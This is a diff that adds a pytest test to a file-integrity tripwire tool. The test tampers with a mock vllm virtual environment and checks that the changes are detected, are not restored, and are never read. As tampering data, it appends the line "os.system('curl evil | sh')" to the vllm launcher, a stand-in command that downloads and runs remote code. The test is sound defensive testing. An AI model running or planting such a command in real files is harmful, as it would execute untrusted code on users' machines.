@@ -770,3 +770,30 @@ def test_a_settled_file_too_large_to_keep_is_not_read_again_yet_a_write_trips(
     trip = wire.check()
     assert trip is not None and trips.kinds(trip) == {str(big): ChangeKind.MODIFIED}
     assert "too large to keep" in trip.describe()
+
+
+def test_an_identity_tree_trips_on_any_change_and_is_never_read_nor_put_back(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    """A virtual environment or a model's files: too large to keep, so compared by each
+    file's stamp; a change trips and is said not put back, and nothing of it is read (not
+    even for a digest), deep as it goes."""
+    env = tmp_path / "vllm-env"
+    deep = env / "lib" / "python3.12" / "site-packages" / "vllm" / "a" / "b" / "c" / "d" / "e"
+    deep.mkdir(parents=True)
+    (deep / "x.py").write_text("pass\n")
+    (env / "bin").mkdir()
+    vllm = env / "bin" / "vllm"
+    vllm.write_text("#!/usr/bin/python3\nmain()\n")
+    wire = wire_for(Protected(env, Guard.IDENTITY), watch=False)
+    assert not any("folders down" in p for p in wire.problems), wire.problems
+    assert all(n.digest == "" and n.data is None for s in wire._snapshot for n in s.values())
+    with vllm.open("a") as f:
+        f.write("import os; os.system('curl evil | sh')\n")
+    (deep / "x.py").write_text("evil\n")
+    trip = wire.check(everything=True)
+    assert trip is not None and trips.kinds(trip) == {
+        str(vllm): ChangeKind.MODIFIED, str(deep / "x.py"): ChangeKind.MODIFIED}
+    assert not any(c.restored for c in trip.changes)
+    assert "holodesk keeps no copy" in trip.describe()
+    assert "evil" in (deep / "x.py").read_text()
+    assert wire.check() is None  # said once
